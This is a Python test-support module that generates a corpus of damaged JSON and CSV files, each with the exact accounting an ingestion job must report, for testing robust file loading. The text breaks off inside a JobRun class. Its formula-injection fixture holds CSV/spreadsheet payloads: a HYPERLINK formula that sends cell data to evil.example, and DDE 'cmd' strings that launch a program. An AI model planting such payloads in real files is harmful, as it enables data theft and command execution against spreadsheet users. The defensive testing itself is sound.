"""A corpus of damaged input, each kind with the accounting a run must produce (issue 13).

:func:`corpus` gives one small file per kind of damage for QuickBite JSON and MealDash CSV
(truncations, unbalanced quotes and brackets, wrong delimiters, BOMs, mixed line ends, NUL bytes, long
lines, deep nesting, numbers out of range, cut gzip and JSON array files, encodings, formula-injection
values, ...). Valid records come from :mod:`feedguard_dev.samples`; each damaged record is written after
enough valid ones that the file stays below the contract's ``intermittent_max_ratio`` (unless the kind
is about the whole file). Each :class:`FaultKind` states what the run must report for its file: records
read, valid, dead-lettered, blank lines skipped, the verdict, and every dead letter with its line and
exact bytes. :func:`run_job` runs the file job once over a folder and collects what it left in the lake.

Example::

    kinds = write_corpus(folder, corpus("json"))
    run = run_job(spark, folder, lake, "json", "corpus-json")
"""

from __future__ import annotations

import datetime as dt
import gzip
import json
import random
import re
from collections import Counter
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any, Literal, cast

from pyspark.sql import SparkSession
from tests.support.strict_oracle import Format

from feedguard_dev.samples import MEALDASH_HEADER, _dumps, csv_line, mealdash_row, quickbite_order
from jobs.ingest_files import main

SOURCES = {"json": "quickbite", "csv": "mealdash"}
Replace = Callable[[re.Match[str]], str]  # a re.sub replacement function
DAY = dt.date(2026, 11, 28)
VALID_PER_BAD = 5  # valid records written around each damaged one: the file stays intermittent
EDGE_VALID = 2  # valid records before the first and after the last damaged one
LONG_BYTES = 1 << 20  # a "very long line"
DEEP = 1_500  # nesting deeper than the default cap (limits.max_nesting_depth = 1000)
TOO_MANY_COLUMNS = 20_481 + 100  # above the default cap (limits.max_csv_columns = 20480)


# --------------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------------

VALID = "valid"
BLANK = "blank"
HEADER = "header"


@dataclass(frozen=True)
class DeadLetter:
    """One dead letter a kind must produce: line (element number in an array; None for a whole file)."""

    line: int | None
    raw: bytes | None
    error_type: str


@dataclass(frozen=True)
class FaultKind:
    """One kind of damage: a file and everything a run must report about it."""

    name: str
    fmt: Format
    description: str
    file_name: str
    data: bytes
    records_read: int
    records_valid: int
    blank_lines: int
    verdict: str
    dead_letters: tuple[DeadLetter, ...]
    layout: Literal["lines", "array", "file"] = "lines"
    # line (or element) -> exact bytes of each record that must load
    valid_records: dict[int, bytes] = field(default_factory=dict)
    # issue and item of a defect that is known and being fixed, when the job does not produce this yet
    known_defect: str | None = None

    @property
    def records_dead_lettered(self) -> int:
        return len(self.dead_letters)

    @property
    def dead_letter_types(self) -> dict[str, int]:
        return dict(sorted(Counter(d.error_type for d in self.dead_letters).items()))


@dataclass
class _Entry:
    raw: bytes
    outcome: str  # VALID, BLANK, HEADER or the dead letter's error type
    end: bytes = b"\n"


class _Records:
    """Valid records of one kind (unique order ids: each kind owns a block of 1,000)."""

    def __init__(self, fmt: Format, number: int) -> None:
        self.fmt = fmt
        self.rng = random.Random(9_000 + number)
        self.next_id = 7_000_000 // (10 if fmt == "csv" else 1) + number * 1_000 + 1

    def obj(self) -> dict[str, Any]:
        order = quickbite_order(self.rng, self.next_id, DAY)
        self.next_id += 1
        return order

    def row(self) -> list[str]:
        row = mealdash_row(self.rng, self.next_id, DAY)
        self.next_id += 1
        return row

    def line(self) -> str:
        return _dumps(self.obj()) if self.fmt == "json" else csv_line(self.row())

    def good(self, count: int) -> list[_Entry]:
        return [_Entry(self.line().encode(), VALID) for _ in range(count)]


def _b(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode("utf-8")


def _padded(records: _Records, bad: Sequence[_Entry]) -> list[_Entry]:
    """Each damaged entry after ``VALID_PER_BAD`` valid ones, with valid ones at both ends."""
    entries = records.good(EDGE_VALID)
    for entry in bad:
        entries += [*records.good(VALID_PER_BAD - 1), entry]
    return entries + records.good(EDGE_VALID)


def _lines_kind(
    name: str,
    fmt: Format,
    description: str,
    entries: Sequence[_Entry],
    *,
    suffix: str | None = None,
    final_end: bool = True,
    prefix: bytes = b"",
    verdict: str | None = None,
    known_defect: str | None = None,
    encode: Callable[[bytes], bytes] | None = None,
) -> FaultKind:
    """A file of physical lines (header first for CSV); line numbers count every physical line."""
    if fmt == "csv":
        entries = [_Entry(MEALDASH_HEADER.encode(), HEADER), *entries]
    body = b"".join(e.raw + e.end for e in entries)
    if not final_end and entries:
        body = body[: len(body) - len(entries[-1].end)]
    data = prefix + body
    dead, valid, blank, read = [], {}, 0, 0
    for number, entry in enumerate(entries, start=1):
        raw = prefix + entry.raw if number == 1 else entry.raw
        if entry.outcome == BLANK:
            blank += 1
        elif entry.outcome == VALID:
            read += 1
            valid[number] = raw
        elif entry.outcome != HEADER:
            read += 1
            dead.append(DeadLetter(number, raw, entry.outcome))
    if verdict is None:
        verdict = "intermittent_corruption" if dead else "clean"
    file_name = f"{name}{suffix or ('.jsonl' if fmt == 'json' else '.csv')}"
    return FaultKind(
        name,
        fmt,
        description,
        file_name,
        encode(data) if encode else data,
        read,
        len(valid),
        blank,
        verdict,
        tuple(dead),
        valid_records=valid,
        known_defect=known_defect,
    )


def _damaged(
    name: str,
    fmt: Format,
    number: int,
    description: str,
    bad: Callable[[_Records], Iterable[tuple[str | bytes, str]]],
    **options: Any,
) -> FaultKind:
    """Valid records with the damaged lines ``bad`` returns, each as ``(line, error type)``."""
    records = _Records(fmt, number)
    entries = [_Entry(_b(line), kind) for line, kind in bad(records)]
    return _lines_kind(name, fmt, description, _padded(records, entries), **options)


def _file_kind(name: str, fmt: Format, description: str, file_name: str, data: bytes) -> FaultKind:
    """A file the driver cannot read: quarantined whole, one file-level dead letter."""
    return FaultKind(
        name,
        fmt,
        description,
        file_name,
        data,
        records_read=1,
        records_valid=0,
        blank_lines=0,
        verdict="file_corrupt",
        dead_letters=(DeadLetter(None, None, "file_corrupt"),),
        layout="file",
    )


def _cut(text: str, keep: float = 0.5) -> str:
    return text[: int(len(text) * keep)]


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _garbage(seed: int, size: int = 8_192) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.randrange(256) for _ in range(size))


# --- JSON kinds ---------------------------------------------------------------------------------------


def _json_kinds() -> list[FaultKind]:
    kinds: list[FaultKind] = []
    add = kinds.append
    j: Format = "json"

    def with_value(records: _Records, key: str, raw_value: str) -> str:
        """A record whose ``key`` holds ``raw_value`` written as is (JSON text)."""
        text = _dumps(records.obj())
        return re.sub(f'"{key}":("[^"]*"|[^,}}\\]]*)', lambda _: f'"{key}":{raw_value}', text, count=1)

    add(
        _damaged(
            "json_truncated_record",
            j,
            1,
            "a record cut in the middle",
            lambda r: [(_cut(r.line()), "malformed_json"), (_cut(r.line(), 0.9), "malformed_json")],
        )
    )
    add(_json_truncated_file())
    add(
        _damaged(
            "json_unbalanced_brackets",
            j,
            3,
            "a missing ']' and an extra '}' and ']'",
            lambda r: [
                (r.line().replace("]", "", 1), "malformed_json"),
                (r.line() + "}", "malformed_json"),
                (r.line().replace("}]", "}]]", 1), "malformed_json"),
            ],
        )
    )
    add(
        _damaged(
            "json_unbalanced_quote",
            j,
            4,
            "a string value without its closing quote",
            lambda r: [(r.line().replace('","customer_id"', ',"customer_id"', 1), "malformed_json")],
        )
    )
    add(
        _lines_kind(
            "json_utf8_bom",
            j,
            "a UTF-8 byte-order mark before the first record",
            _Records(j, 5).good(6),
            prefix=b"\xef\xbb\xbf",
        )
    )
    add(_mixed_line_ends(j, 6))
    add(
        _damaged(
            "json_nul_bytes",
            j,
            7,
            "NUL inside a string and between tokens",
            lambda r: [
                (
                    r.line().replace("Berlin", "Ber\x00lin").replace('"city":', '"city":\x00'),
                    "encoding_error",
                ),
                (r.line()[:-1] + ',"city":"x\x00"}', "encoding_error"),
            ],
        )
    )
    add(
        _damaged(
            "json_very_long_line",
            j,
            8,
            "a 1 MiB line that never closes its string",
            lambda r: [('{"order_id":"QB-00000001","note":"' + "x" * LONG_BYTES, "malformed_json")],
        )
    )
    add(_json_long_valid(9))
    add(
        _damaged(
            "json_deep_nesting",
            j,
            10,
            f"values nested {DEEP} levels deep",
            lambda r: [
                (with_value(r, "tip", "[" * DEEP + "1" + "]" * DEEP), "too_deeply_nested"),
                ('{"order_id":' + '{"a":' * DEEP + "1" + "}" * DEEP + "}", "too_deeply_nested"),
            ],
        )
    )
    add(
        _damaged(
            "json_numbers_beyond_range",
            j,
            11,
            "integers and decimals that do not fit their type",
            lambda r: [
                (_set_first_qty(r, "2147483648"), "type_mismatch"),
                (with_value(r, "subtotal", "123456789.00"), "type_mismatch"),
                (with_value(r, "total", "1e400"), "type_mismatch"),
                (with_value(r, "tip", "-0.5"), "constraint_violation"),
            ],
        )
    )
    add(
        _damaged(
            "json_over_precise_decimals",
            j,
            12,
            "more decimal places than the scale, an exponent",
            lambda r: [
                (_set_first_price(r, "17.884"), "type_mismatch"),
                (with_value(r, "subtotal", "1e1"), "type_mismatch"),
            ],
        )
    )
    add(_lines_kind("json_empty_file", j, "a file of zero bytes", []))
    add(
        _lines_kind(
            "json_blank_lines_only",
            j,
            "only empty lines",
            [_Entry(b"", BLANK), _Entry(b"", BLANK), _Entry(b"", BLANK)],
        )
    )
    add(
        _damaged(
            "json_whitespace_lines",
            j,
            13,
            "lines of spaces and tabs between records",
            lambda r: [(b"   ", BLANK), (b"\t \t", BLANK)],
        )
    )
    records = _Records(j, 14)
    text = "".join(r.raw.decode() + "\n" for r in records.good(40))
    add(
        _file_kind(
            "json_cut_gzip",
            j,
            "a gzip file cut in half",
            "json_cut_gzip.jsonl.gz",
            _gzip(text.encode())[: len(_gzip(text.encode())) // 2],
        )
    )
    add(_concatenated_gzip(j, 15))
    add(_gzip_without_suffix(16))
    add(_json_array("json_array_cut", 17, cut=True))
    add(_json_array("json_array_trailing_content", 18, trailing=True))
    add(_json_array("json_array_empty_element", 19, empty_element=True))
    add(_json_array("json_array_bad_element", 20, bad_element=True))
    add(_json_array_unbalanced(33))
    add(_file_kind("json_binary_garbage", j, "random bytes", "json_binary_garbage.json", _garbage(21)))
    add(
        _damaged(
            "json_duplicate_keys",
            j,
            22,
            "a key repeated at top level and inside an item",
            lambda r: [
                (r.line()[:-1] + ',"status":"delivered"}', "duplicate_key"),
                (r.line().replace('"qty":', '"qty":1,"qty":', 1), "duplicate_key"),
            ],
        )
    )
    add(
        _damaged(
            "json_windows_1252_bytes",
            j,
            23,
            "Windows-1252 bytes (0xF6, 0x80) inside strings",
            lambda r: [
                (
                    r.line().encode().replace(b"Berlin", b"K\xf6ln").replace(b'"city":"', b'"city":"\x80', 1),
                    "encoding_error",
                )
            ],
        )
    )
    records = _Records(j, 24)
    add(
        _file_kind(
            "json_utf16_bom",
            j,
            "UTF-16LE with a BOM where the contract says UTF-8",
            "json_utf16_bom.jsonl",
            b"\xff\xfe" + "".join(e.raw.decode() + "\n" for e in records.good(6)).encode("utf-16-le"),
        )
    )
    add(_formula_injection(j, 25))
    add(
        _damaged(
            "json_not_an_object",
            j,
            26,
            "top-level arrays, strings, numbers and null",
            lambda r: [
                ("[1,2]", "not_an_object"),
                ('"text"', "not_an_object"),
                ("42", "not_an_object"),
                ("null", "not_an_object"),
            ],
        )
    )
    add(
        _damaged(
            "json_wrong_json_types",
            j,
            27,
            "number for a string, string for a number, object for a string, epoch seconds for a timestamp",
            lambda r: [
                (with_value(r, "city", "123"), "type_mismatch"),
                (with_value(r, "subtotal", '"12.50"'), "type_mismatch"),
                (with_value(r, "ordered_at", "1795000000"), "type_mismatch"),
                (with_value(r, "restaurant_id", '{"id":"R0001"}'), "type_mismatch"),
            ],
        )
    )
    add(
        _damaged(
            "json_nested_unknown_key",
            j,
            28,
            "an item with a key the contract does not have",
            lambda r: [(r.line().replace('"qty":', '"discount":5,"qty":', 1), "unexpected_field")],
        )
    )
    add(
        _damaged(
            "json_regex_anchor_newline",
            j,
            29,
            "an order id followed by an escaped newline or CR",
            lambda r: [
                (r.line().replace('","customer_id"', '\\n","customer_id"', 1), "constraint_violation"),
                (r.line().replace('","customer_id"', '\\r","customer_id"', 1), "constraint_violation"),
            ],
        )
    )
    add(
        _damaged(
            "json_lone_surrogate",
            j,
            30,
            "a \\ud800 escape that is no character",
            lambda r: [(r.line().replace('"city":"', '"city":"\\ud800', 1), "encoding_error")],
        )
    )
    add(
        _damaged(
            "json_non_standard_syntax",
            j,
            31,
            "single quotes, comments, NaN, leading zeros, raw tab in a string",
            lambda r: [
                (r.line().replace('"', "'"), "malformed_json"),
                ("/* c */" + r.line(), "malformed_json"),
                (with_value(r, "tip", "NaN"), "type_mismatch"),
                (_set_first_qty(r, "01"), "malformed_json"),
                (r.line().replace('"city":"', '"city":"\t', 1), "malformed_json"),
            ],
        )
    )
    add(_escapes_kind(32))
    return [
        replace(k, known_defect=OPEN_JSON_DEFECTS[k.name]) if k.name in OPEN_JSON_DEFECTS else k
        for k in kinds
    ]


# Defects the corpus found that are still open (issue notes); each kind is a strict xfail until fixed.
OPEN_JSON_DEFECTS: dict[str, str] = {}


def _set_first_qty(records: _Records, value: str) -> str:
    return re.sub(r'"qty":\d+', f'"qty":{value}', records.line(), count=1)


def _set_first_price(records: _Records, value: str) -> str:
    return re.sub(r'"price":[0-9.]+', f'"price":{value}', records.line(), count=1)


def _json_truncated_file() -> FaultKind:
    records = _Records("json", 2)
    cut = _Entry(_cut(records.line(), 0.7).encode(), "malformed_json")
    return _lines_kind(
        "json_truncated_file",
        "json",
        "the last record cut, no final newline",
        [*records.good(8), cut],
        final_end=False,
    )


def _mixed_line_ends(fmt: Format, number: int) -> FaultKind:
    records = _Records(fmt, number)
    entries = records.good(9)
    for entry, end in zip(
        entries, [b"\r\n", b"\n", b"\r", b"\n", b"\r\n", b"\r", b"\r\n", b"\n", b"\r"], strict=True
    ):
        entry.end = end
    name = f"{fmt}_mixed_line_ends"
    return _lines_kind(name, fmt, "CRLF, LF and lone CR line ends in one file (lone CR ends a line)", entries)


def _json_long_valid(number: int) -> FaultKind:
    records = _Records("json", number)
    obj = records.obj()
    obj["city"] = "Berlin-" + "ü" * (LONG_BYTES // 2)
    entries = [*records.good(2), _Entry(_dumps(obj).encode(), VALID), *records.good(2)]
    return _lines_kind("json_very_long_valid_line", "json", "a valid record with a 1 MiB city name", entries)


def _concatenated_gzip(fmt: Format, number: int) -> FaultKind:
    records = _Records(fmt, number)
    entries = records.good(8)
    if fmt == "csv":
        entries = [_Entry(MEALDASH_HEADER.encode(), HEADER), *entries]
    first = b"".join(e.raw + b"\n" for e in entries[:4])
    second = b"".join(e.raw + b"\n" for e in entries[4:])
    kind = _lines_kind(
        f"{fmt}_concatenated_gzip",
        fmt,
        "two gzip members one after the other (one stream)",
        records_only(entries, fmt),
        suffix=".jsonl.gz" if fmt == "json" else ".csv.gz",
    )
    return _replace_data(kind, _gzip(first) + _gzip(second))


def records_only(entries: list[_Entry], fmt: Format) -> list[_Entry]:
    """Entries without the header (``_lines_kind`` adds it for CSV)."""
    return [e for e in entries if e.outcome != HEADER]


def _replace_data(kind: FaultKind, data: bytes) -> FaultKind:
    values = {f: getattr(kind, f) for f in kind.__dataclass_fields__}
    values["data"] = data
    return FaultKind(**values)


def _gzip_without_suffix(number: int) -> FaultKind:
    records = _Records("json", number)
    kind = _lines_kind(
        "json_gzip_named_jsonl", "json", "gzip content in a file named .jsonl", records.good(6)
    )
    return _replace_data(kind, _gzip(kind.data))


def _json_array(
    name: str,
    number: int,
    *,
    cut: bool = False,
    trailing: bool = False,
    empty_element: bool = False,
    bad_element: bool = False,
) -> FaultKind:
    """A pretty-printed JSON array document; records are elements, numbered from 1."""
    records = _Records("json", number)
    elements = [records.line() for _ in range(12)]
    pieces = [(e.encode(), VALID) for e in elements]
    dead: list[DeadLetter] = []
    description = ""
    if bad_element:
        pieces[5] = (b'{"order_id":"QB-1" "items":[1,2]}', "malformed_json")
        description = "an element with a missing comma between valid ones"
    body = b"[\n" + b",\n".join(b"  " + p for p, _ in pieces) + b"\n]\n"
    if empty_element:
        body = body.replace(b",\n  " + pieces[6][0], b",\n  ,\n  " + pieces[6][0], 1)
        description = "an empty element between two commas"
    if trailing:
        body += b'{"order_id":"QB-00000001"}\n'
        description = "content after the closing ']'"
    if cut:
        start = body.index(pieces[9][0])
        body = body[: start + len(pieces[9][0]) // 2]
        description = "an array document cut inside its tenth element"
    valid: dict[int, bytes] = {}
    number_of = 0
    for index, (raw, outcome) in enumerate(pieces, start=1):
        if cut and index > 10:
            break
        number_of += 1
        if cut and index == 10:
            dead.append(DeadLetter(number_of, raw[: len(raw) // 2], "malformed_json"))
        elif outcome == VALID:
            valid[number_of] = raw
        else:
            dead.append(DeadLetter(number_of, raw, outcome))
        if empty_element and index == 6:
            number_of += 1
            dead.append(DeadLetter(number_of, b",", "malformed_json"))
    if trailing:
        dead.append(DeadLetter(number_of + 1, b'{"order_id":"QB-00000001"}', "malformed_json"))
    return FaultKind(
        name,
        "json",
        description,
        f"{name}.json",
        body,
        records_read=len(valid) + len(dead),
        records_valid=len(valid),
        blank_lines=0,
        verdict="intermittent_corruption",
        dead_letters=tuple(dead),
        layout="array",
        valid_records=valid,
    )


def _json_array_unbalanced(number: int) -> FaultKind:
    """An element whose brackets never balance: the rest of the document is one record (no safe resync)."""
    records = _Records("json", number)
    elements = [records.line().encode() for _ in range(12)]
    elements[5] = b'{"order_id":"QB-1", "items":[1,2}'
    body = b"[\n" + b",\n".join(b"  " + e for e in elements) + b"\n]\n"
    rest = body[body.index(elements[5]) :].rstrip()
    return FaultKind(
        "json_array_unbalanced_element",
        "json",
        "an element whose brackets never balance: it runs to the end of the document",
        "json_array_unbalanced_element.json",
        body,
        records_read=6,
        records_valid=5,
        blank_lines=0,
        verdict="intermittent_corruption",
        dead_letters=(DeadLetter(6, rest, "malformed_json"),),
        layout="array",
        valid_records={n: e for n, e in enumerate(elements[:5], start=1)},
    )


def _formula_injection(fmt: Format, number: int) -> FaultKind:
    """Values a spreadsheet would run as formulas: valid data, loaded exactly as written."""
    records = _Records(fmt, number)
    payloads = [
        '=HYPERLINK("http://evil.example/?x="&A1,"open")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]
    entries = []
    for payload in payloads:
        if fmt == "json":
            obj = records.obj()
            obj["city"] = payload
            entries.append(_Entry(_dumps(obj).encode(), VALID))
        else:
            row = records.row()
            row[1] = payload
            if "\r" in payload:  # a CR would end the line: keep it out of CSV
                continue
            entries.append(
                _Entry(
                    csv_line(row).encode() if '"' in payload or "," in payload else _csv_quoted(row), VALID
                )
            )
    return _lines_kind(
        f"{fmt}_formula_injection",
        fmt,
        "=HYPERLINK(...), +cmd, @SUM, -2+3, tab and CR before '=' in a text field (valid data)",
        [*records.good(2), *entries, *records.good(2)],
    )


def _csv_quoted(row: list[str]) -> bytes:
    return csv_line(row).encode()


def _escapes_kind(number: int) -> FaultKind:
    records = _Records("json", number)
    entries = records.good(2)
    for city in ("K\\u00f6ln", "Köln", "\\ud83c\\udf55 Pizza", "🍕 Pizza", 'Say \\"hi\\" \\\\ \\/ \\b\\f\\t'):
        text = _dumps(records.obj())
        entries.append(
            _Entry(
                re.sub(r'"city":"[^"]*"', cast(Replace, lambda _, c=city: f'"city":"{c}"'), text).encode(),
                VALID,
            )
        )
    entries += records.good(2)
    return _lines_kind(
        "json_escapes_and_unicode", "json", "escaped and raw non-ASCII text (all valid)", entries
    )


# --- CSV kinds ----------------------------------------------------------------------------------------


def _csv_kinds() -> list[FaultKind]:
    kinds: list[FaultKind] = []
    add = kinds.append
    c: Format = "csv"

    def cells(records: _Records, index: int, value: str) -> str:
        row = records.row()
        row[index] = value
        return csv_line(row)

    add(
        _damaged(
            "csv_truncated_row",
            c,
            1,
            "a row cut after its fifth field",
            lambda r: [(csv_line(r.row()[:5]), "missing_columns")],
        )
    )
    add(_csv_truncated_file())
    add(
        _damaged(
            "csv_unbalanced_quote",
            c,
            3,
            "a quoted field that never closes",
            lambda r: [
                (
                    f'{r.row()[0]},"Unbalanced quote,2,9.50,,card,completed,+49-170-0000001,'
                    "2026-11-28 10:00:00",
                    "malformed_csv",
                )
            ],
        )
    )
    add(_csv_wrong_delimiter_file())
    add(
        _damaged(
            "csv_wrong_delimiter_rows",
            c,
            5,
            "rows written with ';' and with tabs",
            lambda r: [
                (";".join(_plain(x) for x in r.row()), "missing_columns"),
                ("\t".join(_plain(x) for x in r.row()), "missing_columns"),
            ],
        )
    )
    add(
        _damaged(
            "csv_extra_columns",
            c,
            6,
            "one and three fields too many",
            lambda r: [(r.line() + ",EXTRA", "extra_columns"), (r.line() + ",a,b,c", "extra_columns")],
        )
    )
    add(
        _damaged(
            "csv_missing_columns",
            c,
            7,
            "one field too few, a single field",
            lambda r: [
                (",".join(csv_line([x]) for x in r.row()[:-1]), "missing_columns"),
                (r.row()[0], "missing_columns"),
            ],
        )
    )
    add(_csv_bom_crlf())
    add(_mixed_line_ends(c, 9))
    add(
        _damaged(
            "csv_nul_bytes",
            c,
            10,
            "a NUL byte inside a field and as a whole field",
            lambda r: [
                (cells(r, 1, "Fal\x00afel"), "encoding_error"),
                (cells(r, 4, "\x00"), "encoding_error"),
            ],
        )
    )
    add(_csv_long_valid())
    add(
        _damaged(
            "csv_numbers_beyond_range",
            c,
            12,
            "integers and decimals that do not fit their type",
            lambda r: [
                (cells(r, 2, "99999999999"), "type_mismatch"),
                (cells(r, 3, "123456789.00"), "type_mismatch"),
                (cells(r, 2, "51"), "constraint_violation"),
                (cells(r, 3, "-0.01"), "constraint_violation"),
            ],
        )
    )
    add(
        _damaged(
            "csv_over_precise_decimals",
            c,
            13,
            "more decimal places than the scale, an exponent",
            lambda r: [(cells(r, 3, "25.678"), "type_mismatch"), (cells(r, 3, "1e1"), "type_mismatch")],
        )
    )
    add(_replace_data(_lines_kind("csv_empty_file", c, "a file of zero bytes", []), b""))
    add(_lines_kind("csv_header_only", c, "the header and nothing else", []))
    add(
        _damaged(
            "csv_whitespace_lines",
            c,
            15,
            "lines of spaces and tabs between rows",
            lambda r: [(b"   ", BLANK), (b"\t \t", BLANK)],
        )
    )
    add(
        _damaged("csv_empty_lines", c, 16, "empty lines between rows", lambda r: [(b"", BLANK), (b"", BLANK)])
    )
    records = _Records(c, 17)
    text = MEALDASH_HEADER + "\n" + "".join(e.raw.decode() + "\n" for e in records.good(40))
    whole = _gzip(text.encode())
    add(
        _file_kind(
            "csv_cut_gzip", c, "a gzip file cut in half", "csv_cut_gzip.csv.gz", whole[: len(whole) // 2]
        )
    )
    add(_concatenated_gzip(c, 18))
    add(_file_kind("csv_binary_garbage", c, "random bytes", "csv_binary_garbage.csv", _garbage(19)))
    add(_csv_multiline_field())
    add(_formula_injection(c, 21))
    add(
        _damaged(
            "csv_rfc4180_quote_violations",
            c,
            22,
            "text after a closing quote, a quote in an unquoted field",
            lambda r: [
                (cells(r, 1, "X").replace(",X,", ',"Fal"afel,', 1), "malformed_quoting"),
                (cells(r, 1, "X").replace(",X,", ',Fal"afel,', 1), "malformed_quoting"),
                (cells(r, 1, "X").replace(",X,", ', "Falafel" ,', 1), "malformed_quoting"),
            ],
        )
    )
    add(
        _damaged(
            "csv_windows_1252_bytes",
            c,
            23,
            "Windows-1252 bytes (0xE4, 0x80) in a field",
            lambda r: [
                (cells(r, 1, "K\x00se").encode().replace(b"\x00", b"\xe4"), "encoding_error"),
                (cells(r, 1, "X").encode().replace(b",X,", b",5 \x80,"), "encoding_error"),
            ],
        )
    )
    records = _Records(c, 24)
    add(
        _file_kind(
            "csv_utf16_bom",
            c,
            "UTF-16LE with a BOM where the contract says UTF-8",
            "csv_utf16_bom.csv",
            b"\xff\xfe"
            + (MEALDASH_HEADER + "\n" + "".join(e.raw.decode() + "\n" for e in records.good(6))).encode(
                "utf-16-le"
            ),
        )
    )
    add(
        _damaged(
            "csv_too_many_columns",
            c,
            25,
            f"a line of {TOO_MANY_COLUMNS} fields (above the column cap)",
            lambda r: [("," * (TOO_MANY_COLUMNS - 1), "too_many_columns")],
        )
    )
    add(
        _damaged(
            "csv_regex_anchor_line_separator",
            c,
            26,
            "an order id followed by U+0085 or U+2028",
            lambda r: [
                (cells(r, 0, "MD2600001\u0085"), "constraint_violation"),
                (cells(r, 0, "MD2600002\u2028"), "constraint_violation"),
            ],
        )
    )
    add(
        _damaged(
            "csv_doubled_quotes",
            c,
            27,
            "RFC 4180 doubled quotes and quoted delimiters (valid)",
            lambda r: [(cells(r, 1, 'Burger "Deluxe", extra ""cheese""'), VALID)],
        )
    )
    add(_csv_missing_header())
    return kinds


def _plain(cell: str) -> str:
    """A cell without the characters that would need quoting."""
    return cell.replace(",", " ").replace('"', "")


def _csv_truncated_file() -> FaultKind:
    records = _Records("csv", 2)
    cut = _Entry(csv_line(records.row()[:6]).encode(), "missing_columns")
    return _lines_kind(
        "csv_truncated_file",
        "csv",
        "the last row cut after a field, no final newline",
        [*records.good(8), cut],
        final_end=False,
    )


def _csv_wrong_delimiter_file() -> FaultKind:
    """A file written with ';': the header shows it, the whole file is a structural change."""
    records = _Records("csv", 4)
    rows = [";".join(x.replace(";", ",") for x in records.row()) for _ in range(8)]
    header = MEALDASH_HEADER.replace(",", ";")
    entries = [_Entry(r.encode(), "structural_change") for r in rows]
    kind = _lines_kind(
        "csv_wrong_delimiter_file",
        "csv",
        "the whole file written with ';'",
        entries,
        verdict="structural_change",
    )
    return _replace_data(kind, (header + "\n" + "".join(r + "\n" for r in rows)).encode())


def _csv_missing_header() -> FaultKind:
    """The header line is missing: the first row is read as a header, so the file is a structural change.

    The first row is taken for the header: it is not a record (it is kept in the quarantined file).
    """
    records = _Records("csv", 28)
    rows = [records.line() for _ in range(6)]
    entries = [_Entry(r.encode(), "structural_change") for r in rows[1:]]
    kind = _lines_kind(
        "csv_missing_header",
        "csv",
        "no header line: the first row is taken for one",
        entries,
        verdict="structural_change",
    )
    return _replace_data(kind, "".join(r + "\n" for r in rows).encode())


def _csv_bom_crlf() -> FaultKind:
    records = _Records("csv", 8)
    entries = records.good(6)
    for e in entries:
        e.end = b"\r\n"
    kind = _lines_kind(
        "csv_bom_crlf", "csv", "a UTF-8 BOM and CRLF line ends", entries, prefix=b"\xef\xbb\xbf"
    )
    header = b"\xef\xbb\xbf" + MEALDASH_HEADER.encode()
    return _replace_data(kind, header + b"\r\n" + b"".join(e.raw + b"\r\n" for e in entries))


def _csv_long_valid() -> FaultKind:
    records = _Records("csv", 11)
    row = records.row()
    row[1] = "Pizza, " + "ü" * (LONG_BYTES // 2) + ' "XXL"'
    entries = [*records.good(2), _Entry(csv_line(row).encode(), VALID), *records.good(2)]
    return _lines_kind(
        "csv_very_long_valid_line", "csv", "a valid row with a 1 MiB quoted menu name", entries
    )


def _csv_multiline_field() -> FaultKind:
    """A quoted field with a line break: the line reader cuts the record in two, both halves dead letters."""
    records = _Records("csv", 20)
    row = records.row()
    row[1] = "Sushi\n12 pcs"
    first, second = csv_line(row).split("\n")
    bad = [_Entry(first.encode(), "malformed_csv"), _Entry(second.encode(), "malformed_csv")]
    entries = [*records.good(12), *bad, *records.good(4)]
    return _lines_kind(
        "csv_multiline_quoted_field",
        "csv",
        "a quoted field holding a line break (cut in two by the line reader)",
        entries,
    )


def csv_unreadable_times() -> FaultKind:
    """Times that Spark's new parser refuses and its legacy parser would read (the run must not fail).

    Kept out of :func:`corpus`: today such a value fails the whole run (``SparkUpgradeException``), which
    would hide every other kind of the one shared run.
    """

    def with_time(records: _Records, value: str) -> str:
        row = records.row()
        row[8] = value
        return csv_line(row)

    return _damaged(
        "csv_unreadable_times",
        "csv",
        40,
        "an hour of one digit, a blank after the seconds, a fraction of a second",
        lambda r: [
            (with_time(r, "2026-11-28 1:00:00"), "type_mismatch"),
            (with_time(r, "2026-11-28 10:00:00 "), "type_mismatch"),
            (with_time(r, "2026-11-28 10:00:00.5"), "type_mismatch"),
        ],
    )


def corpus(fmt: Format) -> list[FaultKind]:
    """Every kind of damage for one format, each a file with the accounting it must produce."""
    kinds = _json_kinds() if fmt == "json" else _csv_kinds()
    names = [k.name for k in kinds]
    assert len(names) == len(set(names)), names
    return kinds


def write_corpus(folder: Path, kinds: Iterable[FaultKind]) -> dict[str, FaultKind]:
    """Write each kind's file into ``folder``; return the kinds by file name."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for kind in kinds:
        (folder / kind.file_name).write_bytes(kind.data)
        written[kind.file_name] = kind
    return written


# --------------------------------------------------------------------------------------------------
# One job run over a folder, and what it left in the lake
# --------------------------------------------------------------------------------------------------


def file_name(uri: str) -> str:
    return uri.rstrip("/").rsplit("/", 1)[-1]


def exact_bytes(letter: dict[str, Any]) -> bytes | None:
    """A dead letter's input bytes: ``raw_bytes`` when set, else the UTF-8 bytes of ``raw_text``."""
    if letter.get("raw_bytes") is not None:
        return bytes(letter["raw_bytes"])
    return None if letter["raw_text"] is None else str(letter["raw_text"]).encode("utf-8")


@dataclass
class JobRun:
    """One run of the file job and what it left in the lake, by input file name."""

    exit_code: int
    lake: Path
    summary: dict[str, Any]
    files: dict[str, dict[str, Any]]  # the summary's entry of each file
    dead: dict[str, list[dict[str, Any]]]  # dead letters
    valid: dict[str, list[dict[str, Any]]]  # valid rows (``asDict(recursive=True)``)
    table_counts: tuple[int, int]  # rows in the valid table, in the dead-letter table

    def error_zone(self, name: str) -> bytes:
        """The error-zone copy of one input file's bad records (all its part files, in order)."""
        zone = self.lake / "_error_zone" / SOURCES[self.fmt] / self.summary["run_id"] / f"file={name}"
        return b"".join(p.read_bytes() for p in sorted(zone.glob("part-*"))) if zone.exists() else b""

    @property
    def fmt(self) -> Format:
